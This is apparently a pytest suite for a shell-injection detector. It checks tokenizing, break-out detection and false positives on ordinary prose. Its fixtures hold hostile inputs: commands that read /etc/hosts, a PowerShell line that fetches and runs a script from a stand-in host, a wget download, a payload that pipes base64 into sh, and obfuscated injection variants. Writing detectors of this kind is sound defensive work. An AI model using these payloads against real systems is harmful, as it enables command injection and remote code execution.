"""Shell tokens, and what they decide: a command line is told from a text that names commands."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tcpmirror.detect.commands import KINDS, with_commands
from tcpmirror.detect.shell import tokens
from tcpmirror.detect.shell_injection import breaks_out, is_command, is_command_line, is_disguised

TOKENS = {
    "command and path": (b"; cat /etc/x", ";e/"),
    "substitution": (b"$(sleep 5)", "(ed)"),
    "backticks": (b"`id`", "(p("),
    "pipes and options": (b"echo x | base64 -d|sh", "ew|Co|p"),
    "both ends of a line": (b"\nid\n", "npn"),
    "and, or": (b"a && b || c", "wAwAw"),
    "redirections": (b"cat<x 2>&1", "e>wd>d"),
    "assignment": (b"a=cat;$a /x", "=;v/"),
    "brace expansion": (b"{cat,/x}", "{e/"),
    "plus as a blank": (b"|+dir+c:\\", "|p/"),
    "IFS": (b"cat${IFS}/x$IFS$9/y", "e//"),
    "program by its path": (b"/usr/bin/id -u", "po"),
    "Windows program by its path": (b"c:\\windows\\system32\\cmd.exe /c dir", "C/p"),
    "wildcards": (b"/???/c?t /e*/h?sts", "gg"),
    "part of a variable": (b"cat ${HOME:0:1}etc", "e~"),
    "Windows variable": (b"type %SystemDrive%\\x", "e/"),
    "addresses": (b"curl http://a.example 192.0.2.1", "Cuu"),
    "empty quotes": (b"c''at", "Te"),
    "quoted letters": (b"'wh'oami", "Tp"),
    "backslashes": (b"w\\ho\\am\\i", "Tp"),
    "carets": (b"n^et user", "Tew"),
    "unset variable": (b"cat$u /etc$u/x", "Te/"),
    "empty substitutions": (b"pi``ng un$()ame", "TeTp"),
    "process number": (b"una$$me", "Tp"),
    "apostrophe": (b"we'd O'Neil's", "ww"),
    "comment": (b"ls # x ; y", "p#"),
}
BREAK_OUT = {
    "substitution at the end of words": b"hello dear `id`",
    "parenthesis behind": b";iex (iwr http://a.example/x.ps1)",
    "semicolon": b"1; cat /etc/hosts",
    "pipe": b"x|id",
    "ampersand before": b"& net view",
    "line end before": b"\nid\n",
    "line end and options": b"x\nls -la",
    "substitution in a name": b"a$(whoami).txt",
    "disguised": b";w\\get a.example",
    "assignment first": b"a=cat;$a /x",
    "wildcards": b";/???/c?t /x",
    "unknown program with options": b"; tool --exec x",
}
TEXTS = {
    "commands quoted in a sentence": b"what does `ls` mean, and where is `pwd` used?",
    "list of words": b"cats; dogs | birds & more",
    "prose with commands": b"Find the time; sort them out, or kill it & more.",
    "titles": b"Python | Perl | Ruby - jobs",
    "companies": b"AT&T, R&D; Johnson & Johnson",
    "user agent words": b"compatible; rv:109.0; x64",
    "codes": b"MMB|SC|C1",
    "entity": b"a &amp; b; c",
    "markup as text": b"&lt;script src=&quot;a.js&quot;&gt; &lt;/body&gt;",
    "apostrophes": b"the boys' and girls' shoes; it's time",
    "path": b"/find/who/at.html",
    "mail": b"who is at work/home?",
}


@pytest.mark.parametrize(("value", "expected"), TOKENS.values(), ids=TOKENS)
def test_tokens(value: bytes, expected: str) -> None:
    assert tokens(value) == expected


@pytest.mark.parametrize("value", BREAK_OUT.values(), ids=BREAK_OUT)
def test_separator_command_and_argument_break_out(value: bytes) -> None:
    assert breaks_out(value), tokens(value)


@pytest.mark.parametrize("value", TEXTS.values(), ids=TEXTS)
def test_texts_are_no_commands(value: bytes) -> None:
    assert not breaks_out(value), tokens(value)
    assert not is_command_line(value), tokens(value)
    assert not is_disguised(value), tokens(value)


def test_a_command_line_needs_an_argument_unless_commands_are_expected() -> None:
    assert is_command_line(b"wget -q http://a.example/x")
    assert not is_command_line(b"whoami")
    assert is_command(b"whoami")
    assert is_command(b"cat readme")


def test_patterns_take_their_commands_from_the_same_list() -> None:
    pattern = with_commands(rb"; {{probes}}\b")
    assert pattern.startswith(b"; (?:") and b"|id|" in pattern
    assert sum(map(len, KINDS.values())) > 400
    with pytest.raises(KeyError):
        with_commands(b"{{none}}")


@given(st.binary(max_size=300))
def test_any_bytes_are_read(value: bytes) -> None:
    assert len(tokens(value)) <= 2048
    breaks_out(value)


@pytest.mark.parametrize("piece", [b";", b"'", b"$", b"${", b"a'", b"\\", b"{a,", b"%", b"=", b"c'a't ", b"$(", b"`", b"/*"])
def test_repetition_costs_no_more_than_its_look(piece: bytes) -> None:
    started = time.process_time()
    breaks_out(piece * 100_000)
    assert time.process_time() - started < 0.1
